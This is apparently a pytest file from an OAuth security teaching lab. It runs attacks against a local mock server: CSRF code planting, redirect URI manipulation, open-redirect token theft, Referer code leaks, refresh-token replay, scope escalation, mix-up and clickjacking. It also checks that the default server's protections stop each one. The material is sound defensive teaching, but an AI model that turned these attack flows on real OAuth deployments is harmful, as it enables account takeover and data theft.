"""Notebook 12's attacks, each run for real: it succeeds against the server with the teaching switch
that weakens its rule, and fails against the default server with the error the standard gives.

The attacker's site and authorization server are oauth_lab.attacker's; the victims' apps are the
widget (the lab's own redirect URI) and Fernhollow Shop (oauth_lab.careless_app); the victim's
browser is the scripted UserAgent.
"""
from __future__ import annotations

import base64
import html
import re
from urllib.parse import parse_qsl, urlsplit

import pytest
import requests
from oauthlib.oauth2 import MismatchingStateError, MobileApplicationClient
from oauthlib.oauth2.rfc6749.errors import InvalidGrantError, InvalidScopeError
from requests_oauthlib import OAuth2Session

import mock_server
from flows import WIDGET, assert_oauth_error
from oauth_lab.attacker import PRIZE, AttackerAuthorizationServer, AttackerSite, Window, refusing_headers
from oauth_lab.careless_app import CarelessApp
from oauth_lab.failures import expect_failure, read_redirect
from oauth_lab.flows import authorization_code_flow
from oauth_lab.lab import setup
from oauth_lab.user_agent import UserAgent

SCOPE = ["chats--access:ro"]
JANE, ADA = ("jane", "jane-password"), ("ada", "ada-password")


@pytest.fixture(scope="module")
def lab():
    lab = setup(seed=None, port=mock_server.free_port())
    yield lab
    lab.handle.stop()


@pytest.fixture(scope="module")
def weak(lab):
    """A weakened server beside the default one: weak(require_pkce=False)..."""
    started = []

    def start(**switches):
        started.append(setup(seed=None, port=mock_server.free_port(), make_current=False, **switches))
        return started[-1]

    yield start
    for server in started:
        server.handle.stop()


@pytest.fixture(scope="module")
def site(lab):
    site = AttackerSite(lab.app.port + 4)
    yield site
    site.stop()


@pytest.fixture(scope="module")
def shop(lab, site):
    shop = CarelessApp(lab.app.port + 6, banner=site.page("banner.gif"))
    yield shop
    shop.stop()


def register_shop(server, shop, redirect_uris=None, **metadata) -> str:
    return requests.post(server.endpoint("registration"), json={
        "redirect_uris": redirect_uris or [shop.redirect_uri], "token_endpoint_auth_method": "none",
        "scope": "chats--access:ro customers:ro", **metadata}).json()["client_id"]


def query(url: str) -> dict:
    return dict(parse_qsl(urlsplit(url).query))


def fragment(url: str) -> dict:
    return dict(parse_qsl(urlsplit(url).fragment))


def chats(server, access_token: str) -> requests.Response:
    return requests.post(server.api("list_chats"), json={}, headers={"Authorization": f"Bearer {access_token}"})


def careless_callback(app, redirect, token_endpoint):
    """Redeems whatever code arrives: no state, no iss."""
    return app.fetch_token(token_endpoint, code=query(redirect)["code"], include_client_id=True)


def jane_allows(server, url: str) -> UserAgent:
    """Jane's browser: signs in, allows, and follows wherever the redirect leads."""
    browser = UserAgent(*JANE, server.reach())
    browser.visit(browser.authorize(url))
    return browser


# --- 1. CSRF ----------------------------------------------------------------------------------

def planted_code(server, site, lab, pkce=None) -> str:
    """Ada's code for her own account, brought to Jane's app by Jane's browser; what arrived."""
    url, _ = OAuth2Session(WIDGET, redirect_uri=lab.redirect_uri, scope=SCOPE + ["openid"],
                           pkce=pkce).authorization_url(server.metadata["authorization_endpoint"])
    UserAgent(*JANE, lab.reach()).visit(site.page("go", to=UserAgent(*ADA, server.reach()).authorize(url)))
    return lab.app.received()[-1]


def test_csrf_without_state_or_pkce_connects_janes_app_to_adas_account(lab, weak, site):
    no_pkce = weak(require_pkce=False)
    app = OAuth2Session(WIDGET, redirect_uri=lab.redirect_uri)
    careless_callback(app, planted_code(no_pkce, site, lab), no_pkce.endpoint("token"))
    assert app.get(no_pkce.endpoint("userinfo")).json()["sub"] == "ada"


def test_csrf_is_stopped_by_state_alone(lab, weak, site):
    no_pkce = weak(require_pkce=False)
    arrived = planted_code(no_pkce, site, lab)
    app = OAuth2Session(WIDGET, redirect_uri=lab.redirect_uri, scope=SCOPE)
    app.authorization_url(no_pkce.metadata["authorization_endpoint"])  # Jane's own request
    seq = no_pkce.transcript.last_seq()
    with pytest.raises(MismatchingStateError):
        app.fetch_token(no_pkce.endpoint("token"), authorization_response=arrived, include_client_id=True)
    assert no_pkce.transcript.last_seq() == seq, "a token request was sent for the planted code"


def test_csrf_is_stopped_by_the_default_servers_pkce_alone(lab, site):
    arrived = planted_code(lab, site, lab, pkce="S256")
    app = OAuth2Session(WIDGET, redirect_uri=lab.redirect_uri, scope=SCOPE, pkce="S256")
    app.authorization_url(lab.metadata["authorization_endpoint"])
    with pytest.raises(InvalidGrantError, match="Code challenge failed"):
        careless_callback(app, arrived, lab.endpoint("token"))


# --- 2. redirect URI manipulation --------------------------------------------------------------

def candidates(shop, site) -> dict:
    return {"attacker": site.page("catch"), "relay": shop.page("relay", site.page("catch")),
            "dot-dot": f"{shop.redirect_uri}/../help"}


def probe(server, client_id, redirect_uri) -> int:
    url, _ = OAuth2Session(client_id, redirect_uri=redirect_uri, pkce="S256").authorization_url(
        server.metadata["authorization_endpoint"])
    return requests.get(url, allow_redirects=False).status_code


@pytest.mark.parametrize("matching, accepted", [
    ("exact", set()), ("prefix", {"relay"}), ("lax", {"attacker", "relay", "dot-dot"})])
def test_which_redirect_uris_each_matching_accepts(lab, weak, site, shop, matching, accepted):
    server = lab if matching == "exact" else weak(redirect_matching=matching)
    client_id = register_shop(server, shop)
    statuses = {name: probe(server, client_id, uri) for name, uri in candidates(shop, site).items()}
    assert {name for name, status in statuses.items() if status == 200} == accepted
    assert {status for name, status in statuses.items() if name not in accepted} <= {400}


@pytest.mark.parametrize("matching, candidate", [("prefix", "relay"), ("lax", "attacker")])
def test_a_manipulated_redirect_uri_delivers_janes_code_to_the_attacker(weak, site, shop, matching, candidate):
    server = weak(redirect_matching=matching)
    attackers = OAuth2Session(register_shop(server, shop), redirect_uri=candidates(shop, site)[candidate],
                              scope=SCOPE, pkce="S256")
    url, _ = attackers.authorization_url(server.metadata["authorization_endpoint"])
    browser = jane_allows(server, url)
    assert browser.history[-1].startswith(site.page("catch") + "?code=")
    token = attackers.fetch_token(server.endpoint("token"), code=site.caught()[-1]["code"], include_client_id=True)
    assert chats(server, token["access_token"]).json()["found_chats"] > 0


def test_the_default_server_shows_an_error_page_for_the_relay(lab, site, shop):
    url, _ = OAuth2Session(register_shop(lab, shop), redirect_uri=candidates(shop, site)["relay"],
                           pkce="S256").authorization_url(lab.metadata["authorization_endpoint"])
    page = UserAgent(*JANE, lab.reach()).session.get(url, allow_redirects=False)
    assert page.status_code == 400 and "Location" not in page.headers
    assert "is not supported by client" in page.text


# --- 3. an open redirect on the app, with the implicit grant -----------------------------------

@pytest.fixture(scope="module")
def implicit(weak, shop):
    server = weak(allow_implicit=True, redirect_matching="prefix")
    server.shop = register_shop(server, shop, grant_types=["implicit", "authorization_code"],
                                response_types=["token", "code"])
    return server


def onward(shop, site) -> str:
    return shop.page("continue", site.page("steal"))


def test_the_token_follows_the_shops_open_redirect_in_the_fragment(site, shop, implicit):
    attackers = OAuth2Session(client=MobileApplicationClient(implicit.shop), redirect_uri=onward(shop, site),
                              scope=SCOPE)
    browser = jane_allows(implicit, attackers.authorization_url(implicit.metadata["authorization_endpoint"])[0])
    landed, _, _ = browser.history[-1].partition("#")
    assert landed == site.page("steal")
    assert urlsplit(shop.received()[-1]).fragment == ""  # no server ever saw the token
    assert chats(implicit, fragment(browser.history[-1])["access_token"]).status_code == 200


def test_the_code_does_not_follow_the_open_redirect(site, shop, implicit):
    attackers = OAuth2Session(implicit.shop, redirect_uri=onward(shop, site), scope=SCOPE, pkce="S256")
    browser = jane_allows(implicit, attackers.authorization_url(implicit.metadata["authorization_endpoint"])[0])
    assert browser.history[-1] == site.page("steal")
    assert "code" in query(shop.received()[-1])  # it stayed in the request to the shop


def test_the_default_server_offers_no_implicit_grant_and_refuses_the_redirect(lab, site, shop):
    assert lab.metadata["response_types_supported"] == ["code"]
    url, _ = OAuth2Session(client=MobileApplicationClient(register_shop(lab, shop)), redirect_uri=onward(shop, site),
                           scope=SCOPE).authorization_url(lab.metadata["authorization_endpoint"])
    page = requests.get(url, allow_redirects=False)
    assert page.status_code == 400 and "Location" not in page.headers
    assert "response_type=token is not supported" in page.text


# --- 4. leaks: a Referer with the code (then redeemed: code interception), a history with the token

def leaked_shop_code(server, shop, site, pkce) -> tuple[str, str]:
    """Jane signs in to the shop, whose welcome page shows the attacker's banner: the shop's
    client_id, and the Referer the banner's request carried."""
    client_id = register_shop(server, shop, [shop.page("welcome")])
    url, _ = OAuth2Session(client_id, redirect_uri=shop.page("welcome"), scope=["customers:ro"],
                           pkce=pkce).authorization_url(server.metadata["authorization_endpoint"])
    jane_allows(server, url)
    return client_id, site.referers()[-1]


def test_a_code_leaked_through_referer_is_redeemed_without_pkce(weak, site, shop):
    no_pkce = weak(require_pkce=False)
    client_id, leaked = leaked_shop_code(no_pkce, shop, site, pkce=None)
    assert urlsplit(leaked).path == "/callback/welcome" and {"code", "state"} <= set(query(leaked))
    thief = OAuth2Session(client_id, redirect_uri=shop.page("welcome"))
    thief.fetch_token(no_pkce.endpoint("token"), authorization_response=leaked, include_client_id=True)
    assert thief.post(no_pkce.api("list_customers"), json={}).json()["total_customers"] > 0


def test_a_code_leaked_through_referer_is_useless_with_pkce(lab, site, shop):
    client_id, leaked = leaked_shop_code(lab, shop, site, pkce="S256")
    assert "code" in query(leaked)  # the page leaks it just the same
    thief = OAuth2Session(client_id, redirect_uri=shop.page("welcome"))
    with pytest.raises(InvalidGrantError, match="Missing 'code_verifier'"):
        thief.fetch_token(lab.endpoint("token"), authorization_response=leaked, include_client_id=True)


def test_the_widgets_callback_page_leaks_nothing_through_referer(lab):
    page = requests.get(f"{lab.redirect_uri}?code=ac_1&state=s")
    assert page.headers["Referrer-Policy"] == "no-referrer" and "<img" not in page.text


def test_an_implicit_token_is_not_in_referer_but_stays_in_history(site, shop, implicit):
    url, _ = OAuth2Session(client=MobileApplicationClient(implicit.shop), redirect_uri=shop.page("welcome"),
                           scope=SCOPE).authorization_url(implicit.metadata["authorization_endpoint"])
    browser = jane_allows(implicit, url)
    assert site.referers()[-1] == shop.page("welcome")  # RFC 9110 §10.1.3: no fragment in Referer
    later = next(page for page in browser.history if "access_token=" in page)
    assert chats(implicit, fragment(later)["access_token"]).status_code == 200


# --- 5. refresh-token replay -------------------------------------------------------------------

def replay(server, refresh_token: str) -> requests.Response:
    return requests.post(server.endpoint("token"), data={
        "grant_type": "refresh_token", "refresh_token": refresh_token, "client_id": WIDGET})


def test_without_rotation_a_stolen_refresh_token_works_until_it_expires(weak):
    no_rotation = weak(refresh_rotation=False)
    widget = authorization_code_flow(no_rotation, WIDGET, SCOPE)
    stolen = widget.token["refresh_token"]
    widget.refresh_token(no_rotation.endpoint("token"), client_id=WIDGET)
    assert widget.token["refresh_token"] == stolen
    assert chats(no_rotation, replay(no_rotation, stolen).json()["access_token"]).status_code == 200
    no_rotation.clock.advance(31 * 24 * 3600)
    assert_oauth_error(replay(no_rotation, stolen), 400, "invalid_grant")


def test_with_rotation_a_replayed_refresh_token_revokes_the_family(lab):
    widget = authorization_code_flow(lab, WIDGET, SCOPE)
    stolen = widget.token["refresh_token"]
    widget.refresh_token(lab.endpoint("token"), client_id=WIDGET)
    assert_oauth_error(replay(lab, stolen), 400, "invalid_grant")
    assert widget.post(lab.api("list_chats"), json={}).status_code == 401


def test_a_confidential_apps_refresh_token_needs_its_secret(weak):
    no_rotation = weak(refresh_rotation=False)
    reports = authorization_code_flow(no_rotation, "fernhollow-reports", ["customers:ro"], client_secret="reports-secret")
    answer = requests.post(no_rotation.endpoint("token"), data={
        "grant_type": "refresh_token", "refresh_token": reports.token["refresh_token"], "client_id": "fernhollow-reports"})
    assert_oauth_error(answer, 401, "invalid_client")


# --- 6. scope escalation (no switch weakens it) ------------------------------------------------

def test_a_refresh_may_narrow_the_scope_never_widen_it(lab):
    widget = authorization_code_flow(lab, WIDGET, ["chats--access:ro", "customers:ro"])
    widget.scope = ["customers:ro"]
    assert widget.refresh_token(lab.endpoint("token"), client_id=WIDGET)["scope"] == ["customers:ro"]
    widget.scope = ["customers:ro", "chats--my:rw"]
    with pytest.raises(InvalidScopeError):
        widget.refresh_token(lab.endpoint("token"), client_id=WIDGET)


def test_a_refresh_asking_for_more_reads_as_the_token_endpoints_invalid_scope(lab):
    """At the token endpoint invalid_scope also means "exceeds the scope granted by the resource
    owner" (RFC 6749 §5.2); the authorization endpoint's (§4.1.2.1) has no such clause."""
    widget = authorization_code_flow(lab, WIDGET, SCOPE)
    widget.scope = SCOPE + ["customers:ro"]
    with expect_failure(lab) as failure:
        widget.refresh_token(lab.endpoint("token"), client_id=WIDGET)
    assert failure.error == "invalid_scope"
    assert failure.text().endswith("Standard: RFC 6749 §5.2 — the requested scope is invalid, unknown, malformed, "
                                   "or exceeds the scope granted by the resource owner")
    url, _ = OAuth2Session(WIDGET, redirect_uri=lab.redirect_uri, scope=["webhooks--all:rw"],
                           pkce="S256").authorization_url(lab.metadata["authorization_endpoint"])
    assert "exceeds" not in read_redirect(UserAgent(*JANE, lab.reach()).authorize(url)).text()


@pytest.mark.parametrize("app, scope, user, error", [
    ("fernhollow-admin-tools", "agents--all:rw", JANE, "invalid_scope"),  # an agent, an admin scope
    ("fernhollow-admin-tools", "agents--all:rw", ADA, None),  # the administrator may grant it
    (WIDGET, "webhooks--all:rw", JANE, "invalid_scope"),  # a scope the widget never registered
    (WIDGET, "chats--access:ro", JANE, None),
])
def test_a_scope_the_user_or_the_app_may_not_have_is_refused(lab, app, scope, user, error):
    url, _ = OAuth2Session(app, redirect_uri=lab.redirect_uri, scope=[scope], pkce="S256").authorization_url(
        lab.metadata["authorization_endpoint"])
    received = query(UserAgent(*user, lab.reach()).authorize(url))
    assert received.get("error") == error and ("code" in received) is (error is None)


# --- 7. mix-up ---------------------------------------------------------------------------------

@pytest.fixture
def mixed_up(lab):
    """The app's request went to the attacker's server, which bounced Jane to the default one."""
    partner = AttackerAuthorizationServer(lab.port + 8, lab, {"widget-at-partner": WIDGET})
    metadata = partner.metadata()
    app = OAuth2Session("widget-at-partner", redirect_uri=lab.redirect_uri, scope=SCOPE, pkce="S256")
    url, _ = app.authorization_url(metadata["authorization_endpoint"])
    redirect = UserAgent(*JANE, lab.reach()).authorize(url, server=lab.issuer)
    yield partner, metadata, app, redirect
    partner.stop()  # if this test started it (an exercise check may have, earlier in the run)


def test_an_app_that_skips_iss_sends_the_honest_code_and_verifier_to_the_attacker(lab, mixed_up):
    partner, metadata, app, redirect = mixed_up
    assert query(redirect)["iss"] == lab.issuer != metadata["issuer"]
    with pytest.raises(InvalidGrantError):
        careless_callback(app, redirect, metadata["token_endpoint"])
    stolen = partner.token_requests()[-1]
    assert {"code", "code_verifier"} <= set(stolen)
    answer = requests.post(lab.endpoint("token"), data=dict(stolen, client_id=WIDGET))
    assert chats(lab, answer.json()["access_token"]).status_code == 200


def test_the_honest_server_names_itself_so_the_app_can_tell_it_asked_another(lab, mixed_up):
    partner, metadata, _, redirect = mixed_up
    assert lab.metadata["authorization_response_iss_parameter_supported"] is True
    assert query(redirect)["iss"] == lab.issuer and metadata["issuer"] == partner.url


# --- 8. clickjacking (the frame itself: tests/browser/test_attacks.py) ---------------------------

def frame_headers(server) -> dict:
    page = requests.get(f"{server.url}/login")
    return {name: page.headers.get(name) for name in ("X-Frame-Options", "Content-Security-Policy")}


def test_clickjacking_headers_are_off_only_on_the_switched_server(lab, weak):
    assert frame_headers(weak(allow_framing=True)) == {"X-Frame-Options": None, "Content-Security-Policy": None}
    assert frame_headers(lab) == {"X-Frame-Options": "DENY", "Content-Security-Policy": "frame-ancestors 'none'"}


def test_a_click_on_allow_in_the_frame_gives_the_attackers_app_janes_chats(weak, site):
    framing = weak(allow_framing=True)
    gift_cards = requests.post(framing.endpoint("registration"), json={
        "redirect_uris": [site.page("catch")], "scope": "chats--access:ro"}).json()
    attackers = OAuth2Session(gift_cards["client_id"], redirect_uri=site.page("catch"), scope=SCOPE)
    jane_allows(framing, attackers.authorization_url(framing.metadata["authorization_endpoint"])[0])
    attackers.fetch_token(framing.endpoint("token"), code=site.caught()[-1]["code"],
                          client_secret=gift_cards["client_secret"])
    assert attackers.post(framing.api("list_chats"), json={}).status_code == 200


# --- the attacker's page in the notebook: live, or a drawing of it ------------------------------

def prize(server, site) -> str:
    """The attacker's prize page, framing the consent page for the attacker's own app (notebook 12)."""
    gift_cards = requests.post(server.endpoint("registration"), json={
        "redirect_uris": [site.page("catch")], "scope": "chats--access:ro"}).json()
    url, _ = OAuth2Session(gift_cards["client_id"], redirect_uri=site.page("catch"), scope=SCOPE).authorization_url(
        server.metadata["authorization_endpoint"])
    return site.page("prize", frame=url)


def test_the_window_on_the_default_server_says_the_browser_refuses_the_frame(lab, site):
    window = Window(prize(lab, site))
    assert window.text().startswith(f"the attacker's page {site.url}/prize, framing {lab.issuer}/authorize. ")
    assert "refuses to show Fernhollow's page" in window.text()
    assert "X-Frame-Options: DENY and Content-Security-Policy: frame-ancestors 'none'" in window.text()
    assert "“127.0.0.1 refused to connect”" in window.caption() and "Nothing crashed" in window.caption()
    drawing = window.svg()
    assert "127.0.0.1 refused to connect." in drawing and PRIZE in drawing and "Claim!" in drawing
    assert "Sign in" not in drawing  # the browser shows none of the framed page


def test_the_window_on_the_framing_server_draws_the_framed_sign_in_page(weak, site):
    window = Window(prize(weak(allow_framing=True), site))
    assert "The framed page shows, nearly transparent" in window.text() and "refuses" not in window.text()
    drawing = window.svg()
    texts = re.findall(r"<text [^>]*>([^<]*)</text>", drawing)
    assert texts[:2] == [PRIZE, "Claim!"]  # the attacker's page; then the framed one, from its own HTML:
    assert texts[2:4] == ["Sign in", "Mock OAuth 2.0 authorization server for learning — demo data only."]
    assert texts[-4:] == ["Username", "Password", "Sign in",
                          "Demo users: jane / jane-password (agent), ada / ada-password (administrator)."]
    assert drawing.count("fill='white' stroke='#767676'") == 2  # its two fields; no hidden ones
    assert "refused to connect" not in drawing


def test_the_window_is_live_where_the_page_loads_and_a_drawing_elsewhere(lab, site):
    """An <object> shows its content when the page loads, its fallback when it does not (a frame
    would show a broken box): the drawing, its text as alt text, and a caption under both."""
    window = Window(prize(lab, site))
    page = window._repr_html_()
    live, fallback = page.split("<img", 1)
    assert f"<object data='{html.escape(window.url)}' type='text/html' width='740' height='580'" in live
    assert base64.b64encode(window.svg().encode()).decode() in fallback
    assert f"alt='{html.escape(window.text())}'" in fallback and "</object>" in fallback
    assert page.endswith(f"<p>{html.escape(window.caption())}</p>")
    assert "<iframe" not in page


def test_a_window_whose_framed_page_does_not_answer_says_so(site):
    window = Window(site.page("prize", frame=f"http://127.0.0.1:{mock_server.free_port()}/authorize"))
    assert window.caption() == "The framed page did not answer." and "refused" not in window.svg()


@pytest.mark.parametrize("headers, refusing", [
    ({"X-Frame-Options": "DENY"}, ["X-Frame-Options: DENY"]),
    ({"X-Frame-Options": "sameorigin"}, ["X-Frame-Options: sameorigin"]),
    ({"X-Frame-Options": "ALLOW-FROM http://a.example"}, []),  # obsolete: browsers ignore it
    ({"Content-Security-Policy": "default-src 'self'; frame-ancestors 'none'"},
     ["Content-Security-Policy: default-src 'self'; frame-ancestors 'none'"]),
    ({"Content-Security-Policy": "frame-ancestors 'self'"}, ["Content-Security-Policy: frame-ancestors 'self'"]),
    ({"Content-Security-Policy": "frame-ancestors *"}, []),
    ({"Content-Security-Policy": "default-src 'none'"}, []),  # frame-ancestors does not fall back to it
    ({}, []),
])
def test_which_headers_keep_a_page_out_of_another_sites_frame(headers, refusing):
    assert refusing_headers(headers) == refusing
